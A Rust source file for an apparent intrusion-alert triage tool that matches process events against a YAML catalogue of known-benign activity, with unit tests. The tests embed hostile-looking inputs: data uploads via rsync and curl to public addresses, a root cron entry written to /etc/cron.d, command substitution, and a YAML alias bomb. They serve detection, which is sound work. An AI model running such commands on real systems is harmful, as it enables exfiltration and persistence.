//! The catalogue of known-benign activity: data (YAML), bundled and user-extendable.

use quell_events::FlatEvent;
use quell_rules::yaml::{self, Kind, Node};

use crate::cluster::target;
use crate::evidence::{actor, changes_state, is_inside, SHELLS};
use crate::input::text;

/// The bundled catalogue.
pub const BUILTIN: &str = include_str!("../data/benign_catalogue.yaml");

/// One kind of known-benign activity.
#[derive(Clone, Debug, PartialEq)]
pub struct Entry {
    /// A short id (`package_manager`).
    pub name: String,
    /// What it is, in English.
    pub description_en: String,
    /// What it is, in Japanese.
    pub description_ja: String,
    /// Process names (as the kernel reports them: at most 15 bytes).
    pub actors: Vec<String>,
    /// Target prefixes; empty means any target.
    pub targets: Vec<String>,
    /// Ancestor levels checked besides the process itself.
    pub depth: usize,
    /// Log-odds toward "false positive" when it matches (multiplied by the signal
    /// `known_benign`'s weight).
    pub weight: f64,
    /// Scope: the commands a `sh -c` string (of the process, or of its parent shell) may
    /// run, by base name; every command of the string must be one of them, and through the
    /// parent shell's string the process itself must be one of them. Empty: no scope.
    pub commands: Vec<String>,
    /// Scope: the process's or its parent's command line contains one of these.
    pub cmdline_contains: Vec<String>,
    /// Scope: the process has a controlling terminal.
    pub requires_tty: bool,
    /// Scope: the entry's work only reads state (a monitoring agent polling), so it never
    /// matches a process whose command line, or its parent shell's string, changes state
    /// ([`crate::evidence::changes_state`]).
    pub read_only: bool,
    /// Attack signals this entry explains when it matches (`service_shell`,
    /// `dropped_binary`, `session_credentials`, `session_outbound`, `target_sensitive`). A match never explains
    /// a download, a network stdin or a dropped binary it does not name.
    pub allows: Vec<String>,
    /// Programs whose written files, executed in the same session, are built, not dropped
    /// (compilers, linkers, build tools).
    pub writers: Vec<String>,
    /// Paths of executables the entry's actors generate (a build tool's temp output).
    pub exe_prefixes: Vec<String>,
    /// `anchor: always`: the act is harmless whoever runs it (a terminal helper), so a
    /// match anchors a likely false positive even in a session a person entered, provided
    /// the executable was shipped by the system (see [`shipped_executable`]) and, in a
    /// session somebody entered (a terminal or a login entry), nothing in the whole of it
    /// counts toward an attack by the strict person test (`Sessions::person_trace`, session
    /// 13). Default (`anchor: unattended`): a match anchors only outside entered sessions.
    pub anchor_always: bool,
}

/// Whether the process's executable was shipped by the system, not written by the session:
/// under a system binary directory and not written after its container started (issue
/// 11: the executable's provenance; a binary renamed `tput` in a home or temp directory
/// does not qualify).
pub fn shipped_executable(ev: &FlatEvent) -> bool {
    const SYSTEM_BIN: &[&str] = &[
        "/usr/bin/",
        "/bin/",
        "/usr/sbin/",
        "/sbin/",
        "/usr/libexec/",
    ];
    let upper = matches!(
        ev.get("proc.is_exe_upper_layer"),
        Some(quell_rules::Value::Bool(true))
    );
    let memfd = matches!(
        ev.get("proc.is_exe_from_memfd"),
        Some(quell_rules::Value::Bool(true))
    );
    text(ev, "proc.exepath").is_some_and(|p| {
        SYSTEM_BIN.iter().any(|d| p.starts_with(d)) && !p.contains("/../") && !upper && !memfd
    })
}

/// Whether the process's executable is installed software: under a directory where
/// packages and administrators install programs (`/usr/local/`, `/opt/`, `/usr/lib/`,
/// `/usr/share/`, `/lib/`, `/snap/`...), with no hidden or `..` component, not written
/// after its container started and not run from memory. Weaker than
/// [`shipped_executable`] (a program installed there is nobody's evidence of a person's
/// routine), and never a gate for an anchor: the strict person test
/// (`Sessions::person_trace`) counts a program run in a session as brought in only when it
/// is neither shipped nor installed, or when the session wrote it (issue 11, session 23:
/// a database's client under `/usr/lib/postgresql/N/bin`, a broker's control script under
/// `/opt`, an interpreter built into `/usr/local/bin`).
pub fn installed_executable(ev: &FlatEvent) -> bool {
    let flag = |f: &str| matches!(ev.get(f), Some(quell_rules::Value::Bool(true)));
    text(ev, "proc.exepath").is_some_and(|p| {
        installed_location(&p)
            && !flag("proc.is_exe_upper_layer")
            && !flag("proc.is_exe_from_memfd")
    })
}

/// Whether `path` lies where packages and administrators install programs (see
/// [`installed_executable`]), with no hidden or `..` component. A session that writes such
/// a file keeps it as written (`Activity::WroteFile`), so that running it later is still
/// a program brought in.
pub fn installed_location(path: &str) -> bool {
    const INSTALLED: &[&str] = &[
        "/usr/local/",
        "/opt/",
        "/usr/lib/",
        "/usr/lib64/",
        "/usr/lib32/",
        "/usr/share/",
        "/usr/games/",
        "/lib/",
        "/lib64/",
        "/snap/",
    ];
    INSTALLED.iter().any(|d| path.starts_with(d)) && !path.split('/').any(|c| c.starts_with('.'))
}

/// Where a catalogue match was found.
#[derive(Clone, Debug, PartialEq)]
pub struct Match<'a> {
    /// The entry.
    pub entry: &'a Entry,
    /// The matching process name.
    pub actor: String,
    /// 0 for the process itself, N for `proc.aname[N]`.
    pub level: usize,
}

/// A list of entries.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Catalogue {
    /// Entries in the order they are checked.
    pub entries: Vec<Entry>,
}

/// A catalogue file that cannot be used.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("catalogue {source_name}: {message}")]
pub struct CatalogueError {
    /// The file's name.
    pub source_name: String,
    /// What is wrong.
    pub message: String,
}

/// A list of scalars (absent: empty; one scalar: a list of one).
fn strings(y: Option<&Node>) -> Option<Vec<String>> {
    match y.map(|n| &n.kind) {
        None => Some(Vec::new()),
        Some(Kind::Seq(a)) => a
            .iter()
            .map(|x| x.as_scalar().map(str::to_string))
            .collect(),
        Some(Kind::Scalar(s)) => Some(vec![s.clone()]),
        Some(_) => None,
    }
}

/// A plain (unquoted) YAML number.
fn number(n: &Node) -> Option<f64> {
    n.as_scalar()
        .filter(|_| n.plain)
        .and_then(|s| s.parse::<f64>().ok())
}

/// The signals an entry may explain.
pub const ALLOWABLE: &[&str] = &[
    "service_shell",
    "dropped_binary",
    "session_credentials",
    "session_outbound",
    "target_sensitive",
    "setid",
];

impl Entry {
    /// Whether the entry explains `signal`.
    pub fn allows_signal(&self, signal: &str) -> bool {
        self.allows.iter().any(|a| a == signal)
    }
}

/// The `-c` string a shell runs: the process's when it is a shell started with `-c`, else
/// its parent's.
pub fn shell_command(ev: &FlatEvent) -> Option<String> {
    let of = |name: Option<String>, cmd: Option<String>| -> Option<String> {
        let name = name?;
        if !SHELLS.contains(&name.as_str()) {
            return None;
        }
        let cmd = cmd?;
        let (_, rest) = cmd.split_once(" -c ")?;
        Some(
            rest.trim()
                .trim_matches(|c| c == '"' || c == '\'')
                .to_string(),
        )
    };
    of(text(ev, "proc.name"), text(ev, "proc.cmdline"))
        .or_else(|| of(text(ev, "proc.pname"), text(ev, "proc.pcmdline")))
}

/// Shell commands that act on nothing outside the shell: they print text (into a pipe) or
/// change the shell's own directory. Allowed in any `commands` scope when the string
/// writes no file (no `>`), so that `printf '...' | sendmail -t` is the mail command it is.
pub const INERT_COMMANDS: &[&str] = &["echo", "printf", "cd", "true", ":"];

/// Whether every command of a shell string is one of `allowed` (by base name) or inert
/// ([`INERT_COMMANDS`], when nothing is written with `>`), and at least one is in
/// `allowed`. Command substitution never is; redirection (`<`, `>`) only when `redirects`
/// is true.
pub fn commands_within(cmd: &str, allowed: &[String], redirects: bool) -> bool {
    if cmd.contains('`')
        || cmd.contains("$(")
        || (!redirects && (cmd.contains('<') || cmd.contains('>')))
    {
        return false;
    }
    let mut any = false;
    for seg in cmd.split(['|', ';', '&', '\n']) {
        let mut words = seg.split_whitespace().filter(|w| {
            // Variable assignments and negation before the command.
            (w.starts_with('/') || w.starts_with('-') || !w.contains('=')) && *w != "!"
        });
        let Some(first) = words.next() else { continue };
        let base = first.rsplit('/').next().unwrap_or(first);
        if allowed.iter().any(|a| a == base) {
            any = true;
        } else if !INERT_COMMANDS.contains(&base) || cmd.contains('>') {
            return false;
        }
    }
    any
}

/// A public address (not the host's or the site's own networks, see [`is_inside`]) that a
/// command line names as a remote end: `scheme://ADDR`, `user@ADDR` or `ADDR:path` (the
/// remote syntax of `rsync`, `scp` and `ssh`). Host names are not resolved, and a bare
/// address (a version number looks like one) is not read as a destination.
pub fn public_destination(cmd: &str) -> Option<std::net::IpAddr> {
    cmd.split_whitespace().find_map(|w| {
        let w = w.trim_matches(|c| c == '"' || c == '\'');
        let (marked, rest) = match w.split_once("://") {
            Some((_, r)) => (true, r),
            None => (w.contains('@') || w.contains(':'), w),
        };
        let rest = rest.rsplit_once('@').map_or(rest, |(_, h)| h);
        let host = match rest.strip_prefix('[') {
            Some(h) => h.split(']').next().unwrap_or(""),
            None => rest.split([':', '/']).next().unwrap_or(""),
        };
        let ip: std::net::IpAddr = host.parse().ok()?;
        (marked && !is_inside(&ip)).then_some(ip)
    })
}

impl Catalogue {
    /// The bundled catalogue.
    pub fn builtin() -> Catalogue {
        // The bundled file is tested to parse; an empty catalogue is the safe fallback.
        Catalogue::from_yaml(BUILTIN, "<bundled>").unwrap_or_default()
    }

    /// Parses a catalogue file.
    pub fn from_yaml(src: &str, source_name: &str) -> Result<Catalogue, CatalogueError> {
        let err = |message: String| CatalogueError {
            source_name: source_name.to_string(),
            message,
        };
        // quell-rules' loader: positions, and a bound on alias expansion and nesting.
        let doc = yaml::parse(source_name, src).map_err(|d| {
            err(format!(
                "not valid YAML: {}",
                d.message.trim_start_matches("yaml: ")
            ))
        })?;
        let mut entries = Vec::new();
        let Some(doc) = doc.filter(|d| !d.is_null()) else {
            return Ok(Catalogue::default());
        };
        let Some(items) = doc.as_seq() else {
            return Err(err("expected a list of entries (`- name: ...`)".into()));
        };
        for (i, item) in items.iter().enumerate() {
            let n = i + 1;
            if !item.is_map() {
                return Err(err(format!(
                    "entry {n} (line {}) is not a mapping",
                    item.mark.line
                )));
            }
            let name = item
                .get("name")
                .and_then(Node::as_scalar)
                .ok_or_else(|| err(format!("entry {n} (line {}) has no `name`", item.mark.line)))?
                .to_string();
            let list = |key: &str| {
                strings(item.get(key)).ok_or_else(|| {
                    err(format!("entry `{name}`: `{key}` must be a list of strings"))
                })
            };
            let actors = list("actors")?;
            let commands = list("commands")?;
            let writers = list("writers")?;
            if actors.is_empty() && commands.is_empty() && writers.is_empty() {
                return Err(err(format!(
                    "entry `{name}` needs `actors` (process names), `commands` or `writers`"
                )));
            }
            let cmdline_contains = list("cmdline_contains")?;
            let allows = list("allows")?;
            for a in &allows {
                if !ALLOWABLE.contains(&a.as_str()) {
                    return Err(err(format!(
                        "entry `{name}`: `allows` names `{a}`; it can name {}",
                        ALLOWABLE.join(", ")
                    )));
                }
            }
            let exe_prefixes = list("exe_prefixes")?;
            // A scope flag: absent or `false`, or `true`.
            let flag = |key: &str| match item.get(key).map(|n| n.as_scalar().filter(|_| n.plain)) {
                None | Some(Some("false")) => Ok(false),
                Some(Some("true")) => Ok(true),
                Some(_) => Err(err(format!(
                    "entry `{name}`: `{key}` must be true or false"
                ))),
            };
            let requires_tty = flag("requires_tty")?;
            let read_only = flag("read_only")?;
            let anchor_always = match item
                .get("anchor")
                .map(|n| n.as_scalar().filter(|_| n.plain))
            {
                None | Some(Some("unattended")) => false,
                Some(Some("always")) => true,
                Some(_) => {
                    return Err(err(format!(
                        "entry `{name}`: `anchor` must be unattended or always"
                    )))
                }
            };
            let targets = strings(item.get("targets")).ok_or_else(|| {
                err(format!(
                    "entry `{name}`: `targets` must be a list of path prefixes"
                ))
            })?;
            let weight = match item.get("weight") {
                None => 1.0,
                Some(w) => match number(w) {
                    Some(w) if w.is_finite() && (0.0..=5.0).contains(&w) => w,
                    Some(_) => {
                        return Err(err(format!(
                            "entry `{name}`: `weight` must be between 0 and 5"
                        )))
                    }
                    None => return Err(err(format!("entry `{name}`: `weight` must be a number"))),
                },
            };
            let depth = match item.get("depth") {
                None => 4,
                Some(d) => match d
                    .as_scalar()
                    .filter(|_| d.plain)
                    .and_then(|s| s.parse::<usize>().ok())
                {
                    Some(d) if d <= 16 => d,
                    _ => {
                        return Err(err(format!(
                            "entry `{name}`: `depth` must be an integer from 0 to 16"
                        )))
                    }
                },
            };
            let desc = item.get("description");
            let description_en = desc
                .and_then(|d| d.get("en").or(Some(d)))
                .and_then(Node::as_scalar)
                .unwrap_or(&name)
                .to_string();
            let description_ja = desc
                .and_then(|d| d.get("ja"))
                .and_then(Node::as_scalar)
                .unwrap_or(&description_en)
                .to_string();
            entries.push(Entry {
                name,
                description_en,
                description_ja,
                actors,
                targets,
                depth,
                weight,
                commands,
                cmdline_contains,
                requires_tty,
                read_only,
                allows,
                writers,
                exe_prefixes,
                anchor_always,
            });
        }
        Ok(Catalogue { entries })
    }

    /// Appends another catalogue's entries.
    pub fn extend(&mut self, other: Catalogue) {
        self.entries.extend(other.entries);
    }

    /// The first entry an event matches, within its scope. An entry never matches when
    /// the process's lineage has a service's shell, a dropped binary or a network stdin,
    /// unless it names that signal in `allows` (and its scope, such as `commands`, holds).
    /// An entry whose connections are its job (`allows: [session_outbound]`: agents,
    /// backups, archiving) never matches a process whose command line, or its parent's,
    /// sends to a public address ([`public_destination`]): an agent's job is toward the
    /// host's or the site's own networks, and data shipped outside is how it leaves.
    /// Session facts (a download) are checked by triage.
    pub fn find(&self, ev: &FlatEvent) -> Option<Match<'_>> {
        let tgt = target(ev).map(|(_, t)| t);
        let a = actor(ev);
        let shell_cmd = shell_command(ev);
        // Whether the `sh -c` string is the process's own (else its parent shell's).
        let own_shell = text(ev, "proc.name").is_some_and(|n| SHELLS.contains(&n.as_str()))
            && text(ev, "proc.cmdline").is_some_and(|c| c.contains(" -c "));
        let cmdlines = [text(ev, "proc.cmdline"), text(ev, "proc.pcmdline")];
        let proc_name = text(ev, "proc.name");
        let ships_out = cmdlines
            .iter()
            .flatten()
            .any(|c| public_destination(c).is_some());
        for entry in &self.entries {
            if ships_out && entry.allows_signal("session_outbound") {
                continue;
            }
            if !entry.writers.is_empty() || (entry.actors.is_empty() && entry.commands.is_empty()) {
                continue; // build-output entries are consulted by `built`.
            }
            if a.network_stdio.is_some()
                || (a.service_shell.is_some() && !entry.allows_signal("service_shell"))
                || (a.dropped_exe.is_some() && !entry.allows_signal("dropped_binary"))
                || (entry.requires_tty && !a.tty)
                || (entry.read_only && cmdlines.iter().flatten().any(|c| changes_state(c)))
            {
                continue;
            }
            if !entry.targets.is_empty() {
                let Some(t) = &tgt else { continue };
                if !entry.targets.iter().any(|p| t.starts_with(p.as_str())) {
                    continue;
                }
            }
            if !entry.cmdline_contains.is_empty()
                && !cmdlines.iter().flatten().any(|c| {
                    entry
                        .cmdline_contains
                        .iter()
                        .any(|needle| c.contains(needle.as_str()))
                })
            {
                continue;
            }
            if !entry.commands.is_empty() {
                let named = || {
                    proc_name
                        .as_ref()
                        .is_some_and(|n| entry.commands.contains(n))
                };
                // The parent shell's string explains only the commands it names: a child
                // that is not one of them (a `tee` below `sh -c "stty -g"`) is something
                // else the shell was made to run.
                let ok = match &shell_cmd {
                    Some(cmd) => {
                        commands_within(cmd, &entry.commands, !entry.cmdline_contains.is_empty())
                            && (own_shell || named())
                    }
                    None => named(),
                };
                if !ok {
                    continue;
                }
            }
            if entry.actors.is_empty() {
                return Some(Match {
                    entry,
                    actor: proc_name.clone().unwrap_or_else(|| "?".into()),
                    level: 0,
                });
            }
            for level in 0..=entry.depth {
                let key = if level == 0 {
                    "proc.name".into()
                } else {
                    crate::evidence::ancestor_key("proc.aname", level)
                };
                let name = if level == 1 {
                    text(ev, &key).or_else(|| text(ev, "proc.pname"))
                } else {
                    text(ev, &key)
                };
                if let Some(name) = name {
                    if entry.actors.contains(&name) {
                        return Some(Match {
                            entry,
                            actor: name,
                            level,
                        });
                    }
                }
            }
        }
        None
    }

    /// The entry that explains an executable in a drop directory as built, not dropped:
    /// a writer of the entry wrote it in the same session (`writer`), or the program that
    /// started it is one of the entry's actors and the path is under one of its
    /// `exe_prefixes`.
    pub fn built(&self, path: &str, writer: Option<&str>, parent: Option<&str>) -> Option<&Entry> {
        self.entries.iter().find(|e| {
            e.allows_signal("dropped_binary")
                && (writer.is_some_and(|w| e.writers.iter().any(|x| x == w))
                    || (parent.is_some_and(|p| e.actors.iter().any(|x| x == p))
                        && e.exe_prefixes.iter().any(|x| path.starts_with(x.as_str()))))
        })
    }

    /// Whether a process name is a catalogue actor (any entry).
    pub fn entry_for_actor(&self, name: &str) -> Option<&Entry> {
        self.entries
            .iter()
            .find(|e| e.actors.iter().any(|a| a == name))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(json: &str) -> FlatEvent {
        FlatEvent::from_json_line(json).unwrap()
    }

    #[test]
    fn builtin_parses() {
        let c = Catalogue::from_yaml(BUILTIN, "b").unwrap();
        assert!(c.entries.len() >= 4);
        assert!(c
            .entries
            .iter()
            .all(|e| !e.description_ja.is_empty() && e.description_ja != e.description_en));
        assert_eq!(c, Catalogue::builtin());
    }

    #[test]
    fn matches_actor_or_ancestor() {
        let c = Catalogue::builtin();
        let m = c
            .find(&ev(
                r#"{"proc.name":"logrotate","fd.name":"/var/log/syslog"}"#,
            ))
            .unwrap();
        assert_eq!((m.entry.name.as_str(), m.level), ("log_rotation", 0));
        let m = c
            .find(&ev(
                r#"{"proc.name":"sh","proc.pname":"sh","proc.aname[2]":"dpkg"}"#,
            ))
            .unwrap();
        assert_eq!((m.entry.name.as_str(), m.level), ("package_manager", 2));
        assert!(c
            .find(&ev(r#"{"proc.name":"rm","proc.pname":"bash"}"#))
            .is_none());
    }

    #[test]
    fn user_entries_and_errors() {
        let mut c = Catalogue::builtin();
        let user = Catalogue::from_yaml(
            "- name: our_archiver\n  actors: [arch-logs]\n  targets: [/var/log/app/]\n  weight: 2\n",
            "mine.yaml",
        )
        .unwrap();
        c.extend(user);
        let m = c
            .find(&ev(
                r#"{"proc.name":"arch-logs","fs.path.name":"/var/log/app/x.log"}"#,
            ))
            .unwrap();
        assert_eq!(m.entry.name, "our_archiver");
        assert!(c
            .find(&ev(
                r#"{"proc.name":"arch-logs","fs.path.name":"/var/log/auth.log"}"#
            ))
            .is_none());
        for bad in [
            "{a: 1}",
            "- 3",
            "- name: x",
            "- name: x\n  actors: [a]\n  weight: 99",
            "- name: x\n  actors: [a]\n  depth: -1",
            "[: :",
        ] {
            let e = Catalogue::from_yaml(bad, "u.yaml").unwrap_err();
            assert!(e.to_string().starts_with("catalogue u.yaml: "), "{e}");
        }
        assert_eq!(Catalogue::from_yaml("", "e").unwrap().entries.len(), 0);
        assert!(
            Catalogue::from_yaml("- name: x\n  actors: [a]\n  weight: '2'", "q")
                .unwrap_err()
                .message
                .contains("must be a number")
        );
    }

    #[test]
    fn alias_bomb_is_refused_with_a_clear_error() {
        // 10^9 actors once expanded: refused by quell-rules' loader after a bounded
        // amount of work (yaml-rust2's `YamlLoader` expanded it until memory ran out).
        let mut src = String::from("- name: x\n  a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for i in 1..9 {
            let refs = vec![format!("*a{}", i - 1); 10].join(", ");
            src.push_str(&format!("  a{i}: &a{i} [{refs}]\n"));
        }
        src.push_str("  actors: *a8\n");
        let e = Catalogue::from_yaml(&src, "bomb.yaml").unwrap_err();
        assert!(
            e.to_string()
                .starts_with("catalogue bomb.yaml: not valid YAML: error at line"),
            "{e}"
        );
        assert!(e.message.contains("document too large"), "{e}");
    }

    /// Issue 11: an agent's or a backup's data leaving for a public address is not the
    /// agent's job; the same command toward the site's own network is.
    #[test]
    fn agents_shipping_to_a_public_address_do_not_match() {
        assert_eq!(
            public_destination("rsync -a /data/ u@198.51.100.201:/d/"),
            Some("198.51.100.201".parse().unwrap())
        );
        for inside in [
            "rsync -a /data/ backup@10.70.0.20:/srv/backup/",
            "restic -r sftp:backup@192.168.1.5:/repo backup /home",
            "restic -r s3:https://s3.example.com/bucket backup /home",
            "tool --version 203.0.113.7",
            "curl http://[fd00::5]:8080/x",
        ] {
            assert_eq!(public_destination(inside), None, "{inside}");
        }
        assert!(public_destination("curl -T f https://203.0.113.9/up").is_some());
        let c = Catalogue::builtin();
        let inside = ev(
            r#"{"proc.name":"rsync","proc.cmdline":"rsync -a /data/ backup@10.70.0.20:/srv/","proc.pname":"sh"}"#,
        );
        assert_eq!(c.find(&inside).unwrap().entry.name, "backup_agent");
        let outside = ev(
            r#"{"proc.name":"rsync","proc.cmdline":"rsync -a /data/ u@198.51.100.201:/d/","proc.pname":"sh"}"#,
        );
        assert!(c.find(&outside).is_none());
        // Its ssh child, by the parent's command line.
        let child = ev(
            r#"{"proc.name":"ssh","proc.cmdline":"ssh -l u 198.51.100.201 rsync --server","proc.pname":"rsync","proc.pcmdline":"rsync -a /data/ u@198.51.100.201:/d/"}"#,
        );
        assert!(c.find(&child).is_none());
    }

    #[test]
    fn a_parent_shells_string_explains_only_the_commands_it_names() {
        let cat = Catalogue::builtin();
        let child = |name: &str| {
            FlatEvent::from_json_line(&format!(
                r#"{{"evt.type":"execve","proc.name":"{name}","proc.exepath":"/usr/bin/{name}","proc.cmdline":"{name} -a","proc.pname":"sh","proc.pcmdline":"sh -c stty -echo; tput cols"}}"#
            ))
            .unwrap()
        };
        let probe = FlatEvent::from_json_line(
            r#"{"evt.type":"execve","proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.cmdline":"sh -c stty -echo; tput cols","proc.pname":"sqlplus"}"#,
        )
        .unwrap();
        let entry = |ev: &FlatEvent| cat.find(ev).map(|m| m.entry.name.clone());
        assert_eq!(entry(&probe).as_deref(), Some("terminal_probe_shell"));
        assert!(entry(&child("stty")).is_some());
        assert_eq!(entry(&child("tee")), None);
    }

    #[test]
    fn inert_commands_do_not_break_a_command_scope() {
        let mail = vec!["sendmail".to_string()];
        assert!(commands_within(
            "printf 'To: a@example.test\\n\\nhi' | /usr/sbin/sendmail -t -i",
            &mail,
            false
        ));
        assert!(commands_within("cd /srv && sendmail -t", &mail, false));
        // Inert commands alone are not the scope's command; a write makes them not inert;
        // any other command still breaks the scope.
        assert!(!commands_within("echo hi", &mail, false));
        assert!(!commands_within(
            "echo '* * * * * root sh' > /etc/cron.d/x; sendmail -t",
            &mail,
            false
        ));
        assert!(!commands_within(
            "printf x | sendmail -t; curl http://x/",
            &mail,
            false
        ));
        assert!(!commands_within("echo $(id) | sendmail -t", &mail, false));
    }
}
